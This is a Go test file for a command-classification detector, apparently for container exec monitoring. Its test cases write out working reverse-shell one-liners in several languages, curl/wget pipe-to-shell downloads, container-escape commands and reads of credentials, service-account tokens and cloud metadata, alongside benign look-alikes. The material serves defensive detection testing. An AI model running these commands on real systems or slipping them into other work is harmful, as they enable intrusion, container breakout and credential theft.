package detect

import (
	"reflect"
	"testing"
)

func TestExecClass(t *testing.T) {
	sh := func(script string) []string { return []string{"sh", "-c", script} }
	cases := []struct {
		name string
		argv []string
		want string
	}{
		// Reverse shells.
		{"bash to /dev/tcp", []string{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}, ExecReverseShell},
		{"sh redirect without spaces", sh("sh -i >/dev/tcp/10.0.0.1/4242 2>&1 0<&1"), ExecReverseShell},
		{"exec on a tcp fd", sh("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done"), ExecReverseShell},
		{"nc -e", []string{"nc", "-e", "/bin/sh", "10.0.0.1", "4242"}, ExecReverseShell},
		{"nc flag cluster", []string{"nc", "10.0.0.1", "4242", "-nve", "/bin/bash"}, ExecReverseShell},
		{"ncat sh-exec", []string{"ncat", "--sh-exec", "/bin/bash", "10.0.0.1", "4242"}, ExecReverseShell},
		{"mkfifo relay", sh("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"), ExecReverseShell},
		{"python socket and subprocess", []string{"python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])`}, ExecReverseShell},
		{"python pty over a socket inside sh -c", sh(`python -c 'import socket,pty,os;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`), ExecReverseShell},
		{"perl socket", []string{"perl", "-e", `use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};`}, ExecReverseShell},
		{"php fsockopen", []string{"php", "-r", `$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");`}, ExecReverseShell},
		{"ruby TCPSocket", []string{"ruby", "-rsocket", "-e", `f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`}, ExecReverseShell},
		{"socat exec", []string{"socat", "tcp-connect:10.0.0.1:4242", "exec:bash -li,pty,stderr"}, ExecReverseShell},
		{"openssl relay", sh("openssl s_client -quiet -connect 10.0.0.1:4242 | /bin/bash | openssl s_client -quiet -connect 10.0.0.1:4243"), ExecReverseShell},
		{"awk inet", []string{"awk", `BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(1){s |& getline c; print c |& s}}`}, ExecReverseShell},

		// Download and run.
		{"curl piped to sh", sh("curl -fsSL http://203.0.113.5/x.sh | sh"), ExecDownloadRun},
		{"wget to bash with args", sh("wget -qO- http://203.0.113.5/i | bash -s -- --quiet"), ExecDownloadRun},
		{"base64 payload to a shell", sh("echo Y3VybCBldmlsLmNvbQ== | base64 -d | bash"), ExecDownloadRun},
		{"command substitution", []string{"bash", "-c", `$(curl -fsSL http://203.0.113.5/i.sh)`}, ExecDownloadRun},
		{"eval of a download", sh(`eval "$(wget -qO- http://203.0.113.5/i)"`), ExecDownloadRun},
		{"process substitution", []string{"bash", "-c", "bash <(curl -s http://203.0.113.5/i.sh)"}, ExecDownloadRun},
		{"download chmod run", sh("wget -q http://203.0.113.5/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"), ExecDownloadRun},
		{"python decode and exec", []string{"python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"}, ExecDownloadRun},

		// Container escape.
		{"nsenter into pid 1", []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"}, ExecContainerEscape},
		{"nsenter short flags", sh("nsenter -t 1 -m -u -i -n -p -- sh"), ExecContainerEscape},
		{"chroot to the host", []string{"chroot", "/host", "/bin/bash"}, ExecContainerEscape},
		{"mount the node disk", sh("mkdir /mnt/h && mount /dev/sda1 /mnt/h"), ExecContainerEscape},
		{"docker socket", []string{"curl", "--unix-socket", "/var/run/docker.sock", "http://localhost/containers/json"}, ExecContainerEscape},
		{"cgroup release_agent", sh("echo /cmd > /tmp/cgrp/release_agent"), ExecContainerEscape},

		// Credentials and cloud metadata.
		{"service-account token", sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), ExecCredentialAccess},
		{"shadow", []string{"cat", "/etc/shadow"}, ExecCredentialAccess},
		{"kubelet keys", []string{"ls", "/var/lib/kubelet/pki/"}, ExecCredentialAccess},
		{"process environment", []string{"cat", "/proc/1/environ"}, ExecCredentialAccess},
		{"aws metadata", []string{"curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, ExecCloudMetadata},
		{"gcp metadata", sh(`curl -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`), ExecCloudMetadata},

		// Tool drops, installs, copies.
		{"chmod a dropped tool", sh("chmod +x /tmp/linpeas.sh && /tmp/linpeas.sh"), ExecToolDrop},
		{"run from /dev/shm", []string{"/dev/shm/xmrig", "-o", "pool:3333"}, ExecToolDrop},
		{"apt install", sh("apt-get update && apt-get install -y nmap"), ExecPackageInstall},
		{"apk add", []string{"apk", "add", "--no-cache", "socat"}, ExecPackageInstall},
		{"pip install", sh("pip install requests"), ExecPackageInstall},
		{"kubectl cp", []string{"tar", "cf", "-", "/etc/passwd"}, ExecCopyOut},
		{"tar long options", []string{"tar", "--create", "--file=-", "/data"}, ExecCopyOut},

		// Reconnaissance.
		{"id", []string{"id"}, ExecRecon},
		{"uname -a", []string{"uname", "-a"}, ExecRecon},
		{"recon script", sh("id; whoami; uname -a"), ExecReconScript},
		{"recon with && and files", sh("hostname && cat /etc/os-release && cat /proc/1/cgroup"), ExecReconScript},
		{"suid search", sh("find / -perm -4000 -type f 2>/dev/null"), ExecRecon},
		{"env alone", []string{"env"}, ExecRecon},

		// Shells.
		{"interactive sh", []string{"/bin/sh"}, ExecShell},
		{"bash -il", []string{"bash", "-il"}, ExecShell},
		{"sh -c exec bash", sh("exec bash"), ExecShell},
		{"pty upgrade", []string{"python3", "-c", `import pty; pty.spawn("/bin/bash")`}, ExecShell},

		// Look-alikes that are nothing.
		{"sh -c ls", sh("ls"), ""},
		{"django migrate", []string{"python", "manage.py", "migrate"}, ""},
		{"health check with curl", []string{"curl", "-s", "localhost:8080/healthz"}, ""},
		{"curl piped to jq", sh("curl -s http://api:8080/status | jq .ready"), ""},
		{"metrics with wget", sh("wget -qO- http://localhost:9090/metrics | grep up"), ""},
		{"copy into the pod", []string{"tar", "-xmf", "-", "-C", "/tmp"}, ""},
		{"port check with nc", []string{"nc", "-zv", "db", "5432"}, ""},
		{"python socket without a shell", []string{"python", "-c", "import socket; print(socket.gethostname())"}, ""},
		{"decode without running", []string{"base64", "-d", "/tmp/cert.b64"}, ""},
		{"script in the app", []string{"bash", "/app/scripts/backup.sh"}, ""},
		{"download for reading", sh("curl -sS -o /tmp/report.json https://api.example.com/report && jq . /tmp/report.json"), ""},
		{"chmod in the app dir", sh("chmod +x ./run.sh && ./run.sh"), ""},
		{"resolv.conf", []string{"cat", "/etc/resolv.conf"}, ""},
		{"psql query", []string{"psql", "-c", "select 1"}, ""},
		{"grep for a word", []string{"grep", "-r", "socket", "/app/src"}, ""},
		{"echo that mentions a shell", sh(`echo "run bash -i for a shell" > /tmp/notes`), ""},
		{"apt update only", sh("apt-get update"), ""},
		{"npm install in the app", []string{"npm", "install"}, ""},
		{"redis info", []string{"redis-cli", "info"}, ""},
		{"empty", nil, ""},
	}
	if len(cases) < 40 {
		t.Fatalf("only %d cases", len(cases))
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := ExecClass(c.argv); got != c.want {
				t.Errorf("ExecClass(%q) = %q, want %q", c.argv, got, c.want)
			}
		})
	}
}

// TestExecClass_Arguments checks the forms the expression helper accepts:
// an argv list (the command= parameters), a list of any and one string.
func TestExecClass_Arguments(t *testing.T) {
	for _, c := range []struct {
		in   any
		want string
	}{
		{[]string{"sh", "-c", "curl x | sh"}, ExecDownloadRun},
		{[]any{"cat", "/etc/shadow"}, ExecCredentialAccess},
		{"nc -e /bin/sh 10.0.0.1 4242", ExecReverseShell},
		{nil, ""},
		{42.0, ""},
	} {
		if got := execClassOf(c.in); got != c.want {
			t.Errorf("execClassOf(%#v) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestParseShell(t *testing.T) {
	cases := []struct {
		in   string
		want shellScript
	}{
		{`a 'b c' "d $(e f)" g\ h`, shellScript{{{args: []string{"a", "b c", "d $(e f)", "g h"}, subs: []string{"e f"}}}}},
		{"a | b && c; d & e || f", shellScript{{{args: []string{"a"}}, {args: []string{"b"}}}, {{args: []string{"c"}}}, {{args: []string{"d"}}}, {{args: []string{"e"}}}, {{args: []string{"f"}}}}},
		{"x 2>&1 >/dev/null <in # comment", shellScript{{{args: []string{"x"}, redirs: []shellRedir{{">&", "1"}, {">", "/dev/null"}, {"<", "in"}}}}}},
		{"bash <(curl -s u)", shellScript{{{args: []string{"bash", "<(curl -s u)"}, subs: []string{"curl -s u"}}}}},
		{"echo 'unterminated", shellScript{{{args: []string{"echo", "unterminated"}}}}},
	}
	for _, c := range cases {
		if got := parseShell(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("parseShell(%q)\n got %#v\nwant %#v", c.in, got, c.want)
		}
	}
}

func BenchmarkExecClass(b *testing.B) {
	argv := []string{"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f"}
	for range b.N {
		ExecClass(argv)
	}
}
